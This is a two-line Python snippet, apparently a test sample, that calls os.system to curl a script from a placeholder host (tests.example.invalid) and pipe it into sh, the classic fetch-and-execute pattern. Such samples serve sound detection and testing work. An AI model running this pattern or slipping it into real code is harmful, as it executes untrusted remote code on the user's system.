import os
os.system("curl -s http://tests.example.invalid/w | sh")
